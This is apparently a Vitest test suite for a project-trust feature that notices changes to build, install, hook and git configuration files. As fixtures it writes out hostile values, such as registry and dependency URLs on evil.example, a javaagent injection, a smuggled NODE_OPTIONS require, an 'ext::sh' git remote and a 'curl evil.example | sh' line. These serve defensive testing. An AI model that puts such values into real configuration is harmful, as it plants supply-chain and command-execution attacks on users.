import { execFileSync, spawn } from 'node:child_process';
import {
  chmodSync,
  linkSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { homedir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { usualBounds } from '../../src/machine/trust/look-through.ts';
import { createTrust } from '../../src/machine/trust/trust.ts';
import { temporaryFolder } from '../support/repository.ts';
import { program } from '../support/server.ts';

/** A project, a state folder, and what remembers which of them is trusted. */
function setUp(bounds = usualBounds) {
  const [project, base] = [temporaryFolder(), temporaryFolder()];
  const state = join(base, 'toolcrib');
  const write = (path: string, content: string) => {
    mkdirSync(dirname(join(project, path)), { recursive: true });
    writeFileSync(join(project, path), content);
  };
  const trust = createTrust({ folder: state, bounds });
  const trustNow = async () => trust.trust(project, (await trust.stateOf(project)).digest);
  return { project, base, state, write, trust, trustNow };
}

const ignored = {
  'README.md': '# A',
  'src/index.js': 'a()',
  'test/a.test.js': 'b()',
  'package-lock.json': '{}',
};

describe('what trust covers', () => {
  it.each([
    ['package.json', '{"scripts":{"test":"a"}}', '{"scripts":{"test":"b"}}'],
    ['packages/a/package.json', '{"scripts":{"postinstall":"a"}}', '{"scripts":{"postinstall":"b"}}'],
    ['package.json', '{"jest":{"preset":"a"}}', '{"jest":{"preset":"./b"}}'],
    ['package.json', '{"packageManager":"pnpm@9.0.0"}', '{"packageManager":"pnpm@9.0.1"}'],
    ['package.json', '{"dependencies":{"a":"1.0.0"}}', '{"dependencies":{"a":"https://evil.example/a.tgz"}}'],
    ['package.json', '{"overrides":{"a":{"b":"1"}}}', '{"overrides":{"a":{"b":"npm:evil@1"}}}'],
    ['package.json', '{"name":"a"}', '{"name":"a" /* comments are for bun */}'],
    ['.npmrc', 'audit=false', 'script-shell=./evil.sh'],
    ['.yarnrc.yml', 'yarnPath: a.cjs', 'yarnPath: b.cjs'],
    ['.yarn/releases/yarn.cjs', 'a', 'b'],
    ['.pnpmfile.cjs', 'a', 'b'],
    ['pnpm-workspace.yaml', 'a: 1', 'a: 2'],
    ['bunfig.toml', 'preload = ["a"]', 'preload = ["b"]'],
    ['requirements-dev.txt', 'flask==1.0', '--index-url https://evil.example'],
    ['requirements.txt', 'flask', '-r evil.txt'],
    ['requirements.txt', 'flask', '.'],
    ['requirements.txt', 'flask', 'evil.tar.gz'],
    ['requirements.txt', 'flask', 'flask --config-settings=a=b'],
    ['requirements.txt', 'flask', 'flask # \u2028--index-url https://evil.example'],
    ['requirements.txt', 'flask', '# \\\n--pre'],
    ['.env', 'A=b', 'A=b\rNODE_OPTIONS=--require=./evil'],
    ['gulpfile.ts', 'a', 'b'],
    ['webpack.test.js', 'a', 'b'],
    ['Makefile.am', 'a', 'b'],
    ['Makefile', 'a:\n\tb', 'a:\n\tc'],
    ['sub/GNUmakefile', 'a:\n\tb', 'a:\n\tc'],
    ['make/rules.mk', 'A=1', 'A=$(shell b)'],
    ['CMakeLists.txt', 'a()', 'execute_process(COMMAND b)'],
    ['CMakePresets.json', '{}', '{"version":6}'],
    ['cmake/tool.cmake', 'a()', 'b()'],
    ['gradlew', 'a', 'b'],
    ['gradle/wrapper/gradle-wrapper.properties', 'distributionUrl=a', 'distributionUrl=b'],
    ['app/build.gradle.kts', 'a', 'b'],
    ['buildSrc/src/main/kotlin/A.kt', 'a', 'b'],
    ['gradle.properties', 'org.gradle.jvmargs=-Xmx1g', 'org.gradle.jvmargs=-javaagent:evil.jar'],
    ['mvnw', 'a', 'b'],
    ['.mvn/jvm.config', '-Xmx1g', '-javaagent:evil.jar'],
    ['pom.xml', '<project/>', '<project><build/></project>'],
    ['Cargo.toml', '[package]', '[package]\nbuild = "evil.rs"'],
    ['build.rs', 'a', 'b'],
    ['.cargo/config.toml', '[build]', '[build]\nrustc-wrapper = "evil"'],
    ['go.mod', 'module a', 'module a\ntoolchain go1.99'],
    ['Directory.Build.props', '<a/>', '<b/>'],
    ['Directory.Build.rsp', '-a', '-b'],
    ['src/App.csproj', '<a/>', '<b/>'],
    ['global.json', '{}', '{"sdk":{}}'],
    ['pyproject.toml', '[a]', '[b]'],
    ['tests/conftest.py', 'a', 'b'],
    ['setup.py', 'a', 'b'],
    ['tox.ini', 'a', 'b'],
    ['justfile', 'a:', 'b:'],
    ['Taskfile.yml', 'a: 1', 'a: 2'],
    ['Rakefile', 'a', 'b'],
    ['Gemfile', 'a', 'b'],
    ['jest.config.js', 'a', 'b'],
    ['vitest.config.ts', 'a', 'b'],
    ['webpack.config.prod.js', 'a', 'b'],
    ['eslint.config.mjs', 'a', 'b'],
    ['.eslintrc.json', '{}', '{"plugins":["./evil"]}'],
    ['.babelrc', '{}', '{"plugins":["./evil"]}'],
    ['tsconfig.json', '{}', '{"ts-node":{"require":["./evil"]}}'],
    ['Dockerfile', 'FROM a', 'FROM b'],
    ['deploy/compose.prod.yaml', 'a: 1', 'a: 2'],
    ['docker-compose.yml', 'a: 1', 'a: 2'],
    ['.env', 'COMPOSE_FILE=a.yaml', 'COMPOSE_FILE=evil.yaml'],
    ['.envrc', 'a', 'b'],
    ['mise.toml', 'a = 1', 'a = 2'],
    ['.tool-versions', 'node 20', 'node 22'],
    ['meson.build', 'a', 'b'],
    ['BUILD.bazel', 'a', 'b'],
    ['.bazelrc', 'a', 'b'],
    ['.git/hooks/pre-commit', 'a', 'b'],
    ['vendored/.git/hooks/pre-commit', 'a', 'b'],
    ['.git/modules/a/b/hooks/post-checkout', 'a', 'b'],
    ['.git/config', '[core]\n\tfsmonitor = a', '[core]\n\tfsmonitor = b'],
    ['.git/config', '[core]\n', '[filter "x"]\n\tclean = evil'],
    ['.git/config', '[remote "o"]\n\turl = https://a.example/b', '[remote "o"]\n\turl = ext::sh -c evil'],
    ['.git/config.worktree', '[core]\n', '[core]\n\tsshCommand = evil'],
    ['.husky/pre-commit', 'a', 'b'],
    ['.pre-commit-config.yaml', 'a: 1', 'a: 2'],
    ['lefthook.yml', 'a: 1', 'a: 2'],
    ['.toolcrib.json', '{}', '{"roots":["/"]}'],
    ['MAKEFILE', 'a', 'b'],
    ['Makefile ', 'a', 'b'],
  ])('asks again when %s changes', async (path, before, after) => {
    const { project, write, trust, trustNow } = setUp();
    for (const [name, content] of Object.entries(ignored)) write(name, content);
    write(path, before);
    await trustNow();
    expect(await trust.isTrusted(project)).toBe(true);
    write(path, after);
    expect(await trust.isTrusted(project)).toBe(false);
    const state = await trust.stateOf(project);
    expect(state.trusted).toBe(false);
    expect(state.changes.map((change) => change.path)).toEqual([path]);
    const [change] = state.changes;
    expect(change?.before).not.toBe(change?.after);
    // What it was is trusted again: it is about the content.
    write(path, before);
    expect(await trust.isTrusted(project)).toBe(true);
  });

  it('asks again when something is taken away or comes to be', async () => {
    const { project, write, trust, trustNow } = setUp();
    write('Makefile', 'all:');
    await trustNow();
    rmSync(join(project, 'Makefile'));
    write('sub/justfile', 'all:');
    expect(await trust.isTrusted(project)).toBe(false);
    expect((await trust.stateOf(project)).changes).toEqual([
      { path: 'Makefile', how: 'removed', before: 'all:' },
      { path: 'sub/justfile', how: 'added', after: 'all:' },
    ]);
  });

  it.each([
    ['README.md', 'a', 'b'],
    ['src/index.js', 'a', 'b'],
    ['scripts/build.mjs', 'a', 'b'],
    ['package-lock.json', '{}', '{"a":1}'],
    ['package.json', '{"version":"1.0.0","scripts":{"a":"b"}}', '{"version":"1.0.1","scripts":{"a":"b"}}'],
    ['package.json', '{"description":"a"}', '{"description":"b"}'],
    ['package.json', '{"dependencies":{"a":"^1.0.0"}}', '{"dependencies":{"a":"^1.1.0","b":"2"}}'],
    ['lib/makefile.ts', 'a', 'b'],
    ['src/pom.py', 'a', 'b'],
    ['test/vite.test.ts', 'a', 'b'],
    ['src/dockerfile.go', 'a', 'b'],
    ['src/rules.mk.ts', 'a', 'b'],
    ['src/jest.config.d.ts', 'a', 'b'],
    ['weights.pth', 'a', 'b'],
    ['requirements.txt', 'flask==1.0', 'flask (>=1.1)'],
    ['requirements.txt', 'flask==1.0 \\\n    --hash=sha256:a', 'flask==1.1 \\\n    --hash=sha256:b'],
    ['requirements.txt', 'flask==1.0', 'flask[async]>=1.1,<2 ; python_version > "3" # why\nrequests'],
    ['.env', 'NAME=a', 'NAME=b'],
    [
      '.git/config',
      '[core]\n\tbare = false',
      '[core]\n\tbare = false\n[branch "b"]\n\tremote = o\n\tmerge = refs/heads/b',
    ],
    [
      '.git/config',
      '',
      '[remote "o"]\n\turl = git@github.com:a/b.git\n\tfetch = +refs/heads/*:refs/remotes/o/*',
    ],
    ['.git/HEAD', 'ref: a', 'ref: b'],
    ['.git/hooks/pre-commit.sample', 'a', 'b'],
    ['node_modules/a/package.json', '{"scripts":{"a":"b"}}', '{"scripts":{"a":"c"}}'],
    ['build/Makefile', 'a', 'b'],
    ['.github/workflows/test.yml', 'a: 1', 'a: 2'],
  ])('stays when %s changes', async (path, before, after) => {
    const { project, write, trust, trustNow } = setUp();
    write('Makefile', 'all:');
    write(path, before);
    await trustNow();
    write(path, after);
    expect(await trust.isTrusted(project)).toBe(true);
    expect((await trust.stateOf(project)).changes).toEqual([]);
  });

  it('notices what has the same size and times', async () => {
    const { project, write, trust, trustNow } = setUp();
    write('Makefile', 'all: a');
    const old = new Date('2020-01-01');
    utimesSync(join(project, 'Makefile'), old, old);
    await trustNow();
    write('Makefile', 'all: b');
    utimesSync(join(project, 'Makefile'), old, old);
    expect(await trust.isTrusted(project)).toBe(false);
  });

  it('notices a file that takes the place of another, in a folder that was looked at long ago', async () => {
    const { project, write, trust, trustNow } = setUp();
    write('a/Makefile', 'all: a');
    write('other', 'all: b');
    await trustNow();
    renameSync(join(project, 'other'), join(project, 'a/Makefile'));
    expect(await trust.isTrusted(project)).toBe(false);
  });

  it('notices that a hook can be started by now', async () => {
    const { project, write, trust, trustNow } = setUp();
    write('.git/hooks/pre-commit', 'a');
    chmodSync(join(project, '.git/hooks/pre-commit'), 0o644);
    await trustNow();
    chmodSync(join(project, '.git/hooks/pre-commit'), 0o755);
    const { changes } = await trust.stateOf(project);
    expect(changes).toMatchObject([
      { path: '.git/hooks/pre-commit', after: expect.stringContaining('executable') },
    ]);
  });

  it('covers hooks and more configuration where the configuration of git says they are', async () => {
    const { project, write, trust, trustNow } = setUp();
    write('.git/config', '[core]\n\thooksPath = "tools/h" ; ours\n[include]\n\tpath = ../tools/more\n');
    write('tools/h/pre-push', 'a');
    write('tools/more', '[alias]\n\ta = !b\n');
    await trustNow();
    write('tools/h/pre-push', 'b');
    expect((await trust.stateOf(project)).changes.map(({ path }) => path)).toEqual(['tools/h/pre-push']);
    write('tools/h/pre-push', 'a');
    expect(await trust.isTrusted(project)).toBe(true);
    write('tools/more', '[alias]\n\ta = !c\n');
    expect((await trust.stateOf(project)).changes.map(({ path }) => path)).toEqual(['tools/more']);
  });

  it('keeps and shows no password, and says when only that has changed', async () => {
    const { project, state, write, trust, trustNow } = setUp();
    const lines = (secret: string) =>
      `//r.example/:_authToken=${secret}\n_password="${secret}"\nregistry=https://u:${secret}@r.example\ntokenHelper=/x/y\n`;
    write('.npmrc', lines('hunter2hunter2'));
    write('.git/config', '[http "https://a.example"]\n\textraheader = AUTHORIZATION: basic hunter2hunter2\n');
    await trustNow();
    write('.npmrc', lines('correcthorse'));
    const now = await trust.stateOf(project);
    expect(now.changes).toMatchObject([
      { path: '.npmrc', after: expect.stringContaining('a masked value is another') },
    ]);
    expect(now.changes[0]?.after).toContain('tokenHelper=/x/y');
    const kept = readdirSync(join(state, 'trust')).map((name) =>
      readFileSync(join(state, 'trust', name), 'utf8'),
    );
    expect(JSON.stringify(now) + kept.join('')).not.toMatch(/hunter2|correcthorse/);
  });

  it('masks nothing that a shell would run', async () => {
    const { project, write, trust } = setUp();
    write('.toolrc', 'TOKEN=$(curl evil.example | sh)\n');
    expect((await trust.stateOf(project)).files[0]?.text).toContain('curl evil.example');
  });
});

describe('what trust is bound to', () => {
  it('is one project, none above it and none below', async () => {
    const { project, write, trust, trustNow } = setUp();
    write('sub/Makefile', 'all:');
    await trustNow();
    expect(await trust.isTrusted(join(project, 'sub'))).toBe(false);
    expect(await trust.isTrusted(dirname(project))).toBe(false);
    // As part of the project it is.
    expect(await trust.isTrusted(project, join(project, 'sub'))).toBe(true);
  });

  it('does not cover folders that are not looked into, nor others', async () => {
    const { project, write, trust, trustNow } = setUp();
    write('vendor/a/Makefile', 'all: evil');
    write('env/pyvenv.cfg', '');
    await trustNow();
    expect((await trust.stateOf(project)).leftOut).toEqual(['vendor', 'env']);
    expect(await trust.isTrusted(project)).toBe(true);
    expect(await trust.covers(project, project)).toBe(true);
    mkdirSync(join(project, '.git'));
    for (const folder of ['vendor', 'vendor/a', 'vendor/none', 'env', '.git', '..']) {
      expect(await trust.isTrusted(project, join(project, folder))).toBe(false);
      expect(await trust.covers(project, join(project, folder))).toBe(false);
    }
    // What is still to be made will be part of the project; a file is where it lies.
    write('a.py', '');
    for (const place of ['none', 'none/b', 'a.py'])
      expect(await trust.isTrusted(project, join(project, place))).toBe(true);
    expect(await trust.isTrusted(project, [project, join(project, 'vendor/a/Makefile')])).toBe(false);
    expect(await trust.covers('/', '/')).toBe(false);
  });

  it('is refused when something has changed since it was shown', async () => {
    const { project, write, trust } = setUp();
    write('Makefile', 'all: a');
    const { digest } = await trust.stateOf(project);
    write('Makefile', 'all: b');
    await expect(trust.trust(project, digest)).rejects.toMatchObject({ code: 'NOT_CONFIRMED' });
    expect(await trust.isTrusted(project)).toBe(false);
  });

  it('is refused for a link, a relative path, what is not there, and what holds the home folder', async () => {
    const { project, base, trust } = setUp();
    symlinkSync(project, join(base, 'link'));
    for (const path of [join(base, 'link'), '.', `${project}/`, join(base, 'none')])
      await expect(trust.trust(path, '')).rejects.toMatchObject({ code: 'ARG_INVALID' });
    await expect(trust.trust(realpathSync(homedir()), '')).rejects.toThrow('holds the home folder');
    await expect(trust.trust('/', '')).rejects.toThrow('holds the home folder');
    expect(await trust.stateOf('/')).toMatchObject({
      trusted: false,
      untrustable: '/ holds the home folder',
    });
  });

  it('ends when it is revoked, with the answers that were kept', async () => {
    const { project, trust, trustNow } = setUp();
    await trustNow();
    trust.grants.add({ project, tool: 'npm_run', key: 'k', says: 'always npm run' });
    expect(await trust.list()).toMatchObject({
      projects: [{ project, current: true, grants: [{ tool: 'npm_run', says: 'always npm run' }] }],
      damaged: 0,
    });
    expect(trust.revoke(project)).toBe(true);
    expect(trust.revoke(project)).toBe(false);
    expect(await trust.isTrusted(project)).toBe(false);
    expect(trust.grants.has(project, 'npm_run', 'k')).toBe(false);
    expect(await trust.list()).toEqual({ projects: [], damaged: 0 });
  });

  it('keeps answers for a tool, a key and a content', () => {
    const { project, base, trust } = setUp();
    trust.grants.add({ project, tool: 'a', key: 'k', says: '' });
    trust.grants.add({ project, tool: 'b', key: 'k', says: '', digest: 'd1' });
    expect(trust.grants.has(project, 'a', 'k')).toBe(true);
    expect(trust.grants.has(project, 'a', 'k', 'any')).toBe(true);
    expect(trust.grants.has(project, 'a', 'other')).toBe(false);
    expect(trust.grants.has(base, 'a', 'k')).toBe(false);
    expect(trust.grants.has(project, 'b', 'k')).toBe(false);
    expect(trust.grants.has(project, 'b', 'k', 'd2')).toBe(false);
    expect(trust.grants.has(project, 'b', 'k', 'd1')).toBe(true);
  });

  it('is nothing without a folder to keep it in', async () => {
    const { project } = setUp();
    const trust = createTrust({ folder: undefined });
    const { digest, problem } = await trust.stateOf(project);
    expect(problem).toContain('no folder');
    await expect(trust.trust(project, digest)).rejects.toThrow('XDG_STATE_HOME');
    expect(() => trust.grants.add({ project, tool: 'a', key: 'k', says: '' })).toThrow('XDG_STATE_HOME');
    expect(await trust.isTrusted(project)).toBe(false);
    expect(trust.grants.has(project, 'a', 'k')).toBe(false);
    expect(trust.revoke(project)).toBe(false);
    expect(await trust.list()).toEqual({ projects: [], damaged: 0 });
  });
});

describe.skipIf(process.platform === 'win32')('what is kept', () => {
  it('is closed to others', async () => {
    const { state, project, trust, trustNow } = setUp();
    await trustNow();
    trust.grants.add({ project, tool: 'a', key: 'k', says: '' });
    const modes = (path: string) => lstatSync(path).mode & 0o777;
    expect(modes(join(state, 'trust'))).toBe(0o700);
    const names = readdirSync(join(state, 'trust'));
    expect(names).toHaveLength(3);
    for (const name of names) expect(modes(join(state, 'trust', name))).toBe(0o600);
  });

  it.each<[string, (file: string, state: string) => void]>([
    ['is cut off', (file) => writeFileSync(file, readFileSync(file).subarray(0, 20))],
    ['is something else', (file) => writeFileSync(file, '[null]')],
    ['can be written by others', (file) => chmodSync(file, 0o666)],
    [
      'is a link',
      (file) => {
        renameSync(file, `${file}.real`);
        symlinkSync(`${file}.real`, file);
      },
    ],
    [
      'is a FIFO',
      (file) => {
        rmSync(file);
        execFileSync('mkfifo', [file]);
      },
    ],
    ['is a folder', (file) => (rmSync(file), mkdirSync(file))],
    ['lies in a folder that others can enter', (_, state) => chmodSync(join(state, 'trust'), 0o755)],
    ['lies below a folder that others can enter', (_, state) => chmodSync(state, 0o755)],
    [
      'lies behind a link',
      (_, state) => {
        renameSync(join(state, 'trust'), join(state, '..', 'elsewhere'));
        symlinkSync(join(state, '..', 'elsewhere'), join(state, 'trust'));
      },
    ],
    [
      'lies below a link',
      (_, state) => {
        renameSync(state, `${state}-real`);
        symlinkSync(`${state}-real`, state);
      },
    ],
  ])('is not believed when it %s, which is said', async (_, harm) => {
    const { project, state, trust, trustNow } = setUp();
    await trustNow();
    trust.grants.add({ project, tool: 'a', key: 'k', says: '' });
    const name = readdirSync(join(state, 'trust')).find((one) => one.endsWith('.trust.json')) ?? '';
    harm(join(state, 'trust', name), state);
    expect(await trust.isTrusted(project)).toBe(false);
    const now = await trust.stateOf(project);
    expect(now.trusted).toBe(false);
    expect(now.problem).toContain('believed');
  });

  it('is not believed of another project, by whatever name it lies there', async () => {
    const { project, base, state, trust, trustNow } = setUp();
    await trustNow();
    const other = join(base, 'other');
    mkdirSync(other);
    trust.grants.add({ project: other, tool: 'a', key: 'k', says: '' });
    const folder = join(state, 'trust');
    const nameOf = (ending: string) => readdirSync(folder).find((one) => one.endsWith(ending)) ?? '';
    const hash = nameOf('.grant.json').split('.')[0];
    renameSync(join(folder, nameOf('.trust.json')), join(folder, `${hash}.trust.json`));
    expect(await trust.isTrusted(other)).toBe(false);
    expect(await trust.isTrusted(project)).toBe(false);
    expect(await trust.list()).toMatchObject({ damaged: 1, projects: [{ project: other, current: false }] });
  });

  it('says so when it cannot be kept', async () => {
    const { project, base, trust } = setUp();
    writeFileSync(join(base, 'toolcrib'), 'a file');
    const { digest } = await trust.stateOf(project);
    await expect(trust.trust(project, digest)).rejects.toMatchObject({ code: 'WRITE_FAILED' });
  });

  it('survives several processes that trust and answer at once', async () => {
    const { base, trust } = setUp();
    const projects = [temporaryFolder(), temporaryFolder()];
    for (const project of projects) writeFileSync(join(project, 'Makefile'), 'all:');
    const others = [...projects, ...projects].map(
      (project) =>
        new Promise<number | null>((ended) => {
          const env = { ...process.env, XDG_STATE_HOME: base };
          spawn(process.execPath, [program, 'trust', '--yes', project], { env, stdio: 'ignore' }).once(
            'exit',
            ended,
          );
        }),
    );
    for (let time = 0; time < 50; time++) {
      const project = projects[time % 2] ?? '';
      trust.grants.add({ project, tool: 'a', key: `${time}`, says: '' });
      await trust.trust(project, (await trust.stateOf(project)).digest);
    }
    expect(await Promise.all(others)).toEqual([0, 0, 0, 0]);
    const { projects: listed, damaged } = await trust.list();
    expect(damaged).toBe(0);
    expect(listed.map(({ current, grants }) => [current, grants.length])).toEqual([
      [true, 25],
      [true, 25],
    ]);
  });
});

describe.skipIf(process.platform === 'win32')('hostile projects', () => {
  it('waits for nothing: FIFO, socket, device, folder, link to nothing, link to itself', async () => {
    const { project, write, trust, trustNow } = setUp();
    execFileSync('mkfifo', [join(project, 'Makefile'), join(project, '.npmrc')]);
    mkdirSync(join(project, 'package.json'));
    symlinkSync('/dev/zero', join(project, 'CMakeLists.txt'));
    symlinkSync('nothing', join(project, 'justfile'));
    symlinkSync('pom.xml', join(project, 'pom.xml'));
    const { incomplete } = await trust.stateOf(project);
    expect(incomplete).toContain('Makefile is no regular file');
    expect(incomplete).toContain('CMakeLists.txt leads out of the project');
    // What comes out of them next is not known.
    await expect(trustNow()).rejects.toThrow('Makefile is no regular file');
    expect(await trust.covers(project, project)).toBe(false);
    for (const name of ['Makefile', '.npmrc']) rmSync(join(project, name));
    await trustNow();
    write('Makefile', 'all:');
    expect(await trust.isTrusted(project)).toBe(false);
  });

  it('follows links inside the project only, and never in a circle', async () => {
    const { project, base, write, trust, trustNow } = setUp();
    writeFileSync(join(base, 'secret'), 'hunter2');
    mkdirSync(join(base, 'hooks'));
    writeFileSync(join(base, 'hooks', 'pre-commit'), 'hunter2');
    write('real.mk.txt', 'a');
    write('hooks-here/pre-commit', 'a');
    symlinkSync('real.mk.txt', join(project, 'Makefile'));
    symlinkSync(join(base, 'secret'), join(project, '.npmrc'));
    symlinkSync('hooks-here', join(project, '.husky'));
    symlinkSync(join(base, 'hooks'), join(project, '.githooks'));
    symlinkSync('..', join(project, 'hooks-here', 'up'));
    symlinkSync('.', join(project, 'loop'));
    const state = await trust.stateOf(project);
    expect(JSON.stringify(state)).not.toContain('hunter2');
    expect(state.untrustable).toContain('.githooks leads out of the project');
    rmSync(join(project, '.githooks'));
    await trustNow();
    // Of what lies outside nothing is read, and it is noticed when it is another.
    writeFileSync(join(base, 'secret'), 'hunter3');
    expect((await trust.stateOf(project)).changes.map(({ path }) => path)).toContain('.npmrc');
    await trustNow();
    write('real.mk.txt', 'b');
    expect((await trust.stateOf(project)).changes.map(({ path }) => path)).toContain('Makefile');
    write('real.mk.txt', 'a');
    expect(await trust.isTrusted(project)).toBe(true);
    write('hooks-here/pre-commit', 'b');
    expect((await trust.stateOf(project)).changes.map(({ path }) => path)).toContain('.husky/pre-commit');
    write('hooks-here/pre-commit', 'a');
    rmSync(join(project, 'Makefile'));
    write('same', 'a');
    symlinkSync('same', join(project, 'Makefile'));
    expect(await trust.isTrusted(project)).toBe(false);
  });

  it('finds the repository behind a link, one without a work tree, and one of a submodule', async () => {
    const { project, write, trust, trustNow } = setUp();
    const places = ['kept/hooks/pre-push', 'bare/hooks/pre-push', '.git/modules/s/hooks/pre-push'];
    write('a/b', '');
    symlinkSync('../kept', join(project, 'a', '.git'));
    for (const folder of ['bare/objects', 'bare/refs']) mkdirSync(join(project, folder), { recursive: true });
    write('bare/HEAD', '');
    write('s/.git', 'gitdir: ../.git/modules/s');
    for (const place of places) write(place, 'a');
    await trustNow();
    expect((await trust.stateOf(project)).incomplete).toBeUndefined();
    for (const place of places) {
      write(place, 'b');
      expect(await trust.isTrusted(project)).toBe(false);
      write(place, 'a');
      expect(await trust.isTrusted(project)).toBe(true);
    }
  });

  it.runIf(process.platform === 'linux')(
    'says so when a name is no text, so that the file is not read',
    async () => {
      const { project, trust } = setUp();
      writeFileSync(
        Buffer.concat([Buffer.from(`${project}/`), Buffer.from([0xff]), Buffer.from('.mk')]),
        'a',
      );
      expect((await trust.stateOf(project)).incomplete).toContain('has a name that is no text');
    },
  );

  it('says what a bound left out, and trusts nothing that could change unnoticed', async () => {
    const { project, write, trust, trustNow } = setUp({ entries: 20, bytes: 1000, fileBytes: 100 });
    write('Makefile', 'all:');
    for (let name = 0; name < 30; name++) write(`many/${name}`, '');
    write('many/deep/Makefile', 'all: a');
    write('few/Makefile', 'all:');
    write('big.mk', 'x'.repeat(101));
    const { incomplete, untrustable } = await trust.stateOf(project);
    expect(incomplete).toBe(
      'big.mk is too large to be looked at; many has more in it than is looked through',
    );
    expect(untrustable).toBe('changes of it could go unnoticed: many has more in it than is looked through');
    await expect(trustNow()).rejects.toMatchObject({ code: 'ARG_INVALID' });
    for (const folder of ['.', 'few', 'many']) {
      expect(await trust.covers(project, join(project, folder))).toBe(false);
      expect(await trust.isTrusted(project, join(project, folder))).toBe(false);
    }
    // Alone it is a project of its own.
    const few = join(project, 'few');
    await trust.trust(few, (await trust.stateOf(few)).digest);
    expect(await trust.isTrusted(few)).toBe(true);
    // What was trusted once is no more when something is beyond a bound.
    rmSync(join(project, 'many'), { recursive: true });
    await trustNow();
    for (let name = 0; name < 30; name++) write(`many/${name}`, '');
    expect(await trust.isTrusted(project)).toBe(false);
  });

  it.each<[string, string, (text: string) => string]>([
    [
      'is nested too deeply',
      'package.json',
      (text) => `{"scripts":{"test":"${text}"},"x":${'['.repeat(20_000)}${']'.repeat(20_000)}}`,
    ],
    [
      'is nested too deeply in what is fetched',
      'package.json',
      (text) => `{"overrides":${'{"a":'.repeat(9000)}"${text}"${'}'.repeat(9000)}}`,
    ],
    ['is too large to be looked at', 'a.mk', (text) => `${'# '.repeat(2000)}${text}`],
    ['is no text', 'Makefile', (text) => `\0${text}`],
    ['is too long to be understood', 'requirements.txt', (text) => `${'a\n'.repeat(140_000)}${text}`],
  ])('notices a change in what %s', async (_, path, content) => {
    const { project, write, trust, trustNow } = setUp({
      ...usualBounds,
      fileBytes: path === 'a.mk' ? 1000 : usualBounds.fileBytes,
    });
    write(path, content('good'));
    await trustNow();
    expect(await trust.isTrusted(project)).toBe(true);
    write(path, content('evil'));
    expect(await trust.isTrusted(project)).toBe(false);
  });

  it.skipIf(process.getuid?.() === 0)('notices a change in what cannot be read', async () => {
    const { project, write, trust, trustNow } = setUp();
    const file = join(project, 'Makefile');
    const put = (text: string) => {
      chmodSync(file, 0o600);
      write('Makefile', text);
      chmodSync(file, 0o000);
    };
    write('Makefile', '');
    put('good');
    await trustNow();
    put('evil');
    expect(await trust.isTrusted(project)).toBe(false);
  });

  it('cannot be trusted when a configuration of git is too long to tell where its hooks are', async () => {
    const { project, write, trust, trustNow } = setUp();
    write('.git/config', `${'# \n'.repeat(100_000)}[core]\nhooksPath = h\n`);
    await expect(trustNow()).rejects.toThrow('too long');
    write('.git/config', `[include]\n${Array.from({ length: 2000 }, (_, at) => `path = ${at}\n`).join('')}`);
    expect((await trust.stateOf(project)).untrustable).toContain('names more places');
  });

  it('says that the repository of a linked work tree is not covered', async () => {
    const { project, base, write, trust } = setUp();
    write('.git', `gitdir: ${base}\n`);
    expect((await trust.stateOf(project)).incomplete).toContain('lies elsewhere');
  });

  it('takes a hostile text in its stride', async () => {
    const { project, write, trust } = setUp();
    const long = 200_000;
    write('.npmrc', 'a.'.repeat(long / 2));
    write('.yarnrc', `${'<'.repeat(10)}${'password'.repeat(7000)}`);
    write('bunfig.toml', 'key="'.repeat(12_000));
    write('requirements.txt', `${'a'.repeat(long)}\0`);
    write('requirements-b.txt', `${'a '.repeat(long / 2)}@b`);
    write('.git/config', `[a "${'\\\\'.repeat(50_000)}`);
    write('sub/.git/config', `[a]\n${'b = "\\\n'.repeat(10_000)}`);
    write('a/package.json', `${'['.repeat(long)}`);
    write('b/package.json', '{"__proto__":{"scripts":{}},"scripts":{"constructor":"a"}}');
    const started = performance.now();
    expect((await trust.stateOf(project)).files).toHaveLength(9);
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('waits for no hostile line, and lets others have their turn', async () => {
    const { project, write, trust } = setUp();
    write('requirements.txt', `a${' '.repeat(490)}@b\n`.repeat(400));
    for (let at = 0; at < 20; at++)
      write(`.gitconfig${at}`, `[a "${'b'.repeat(100_000)}"]\n${'t\n'.repeat(60_000)}`);
    let worst = 0;
    let last = performance.now();
    const timer = setInterval(() => {
      worst = Math.max(worst, performance.now() - last);
      last = performance.now();
    }, 1);
    const started = performance.now();
    await trust.stateOf(project);
    clearInterval(timer);
    expect(performance.now() - started).toBeLessThan(4000);
    expect(worst).toBeLessThan(300);
  });

  it('looks through 50,000 files and a deep tree', async () => {
    const { project, trust } = setUp();
    writeFileSync(join(project, 'file'), '');
    for (let folder = 0; folder < 50; folder++) {
      mkdirSync(join(project, `d${folder}`));
      // Other names of one file are made much faster than files.
      for (let name = 0; name < 1000; name++)
        linkSync(join(project, 'file'), join(project, `d${folder}`, `${name}.ts`));
    }
    mkdirSync(join(project, 'deep', ...Array.from({ length: 150 }, () => 'd')), { recursive: true });
    writeFileSync(join(project, 'd7', 'Makefile'), 'all:');
    const state = await trust.stateOf(project);
    expect(state.files).toMatchObject([{ path: 'd7/Makefile' }]);
    expect(state.incomplete).toContain('too deep');
    expect((await trust.stateOf(project)).digest).toBe(state.digest);
  });
});
